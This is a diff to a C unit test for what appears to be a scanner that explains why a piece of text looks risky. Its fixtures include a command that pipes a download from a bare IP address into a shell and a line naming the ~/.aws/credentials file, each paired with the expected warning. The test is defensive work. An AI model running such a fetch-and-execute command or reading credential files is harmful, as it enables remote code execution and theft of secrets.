@@ -330,6 +330,8 @@ static void reasons_accuse_nobody(void **state)
     looks_of("a.sh", "curl http://203.0.113.9/i | sh\n", &why);
     assert_string_equal(why, "mentions “| sh” and “curl”: could pipe text into a shell, download; "
                              "names a host by its address");
+    looks_of("a.md", "They are in ~/.aws/credentials today.\n", &why); /* one word, one reason */
+    assert_string_equal(why, "mentions “.aws/credentials”: could read secrets");
     looks_of("the end", "", &why);
 }
 
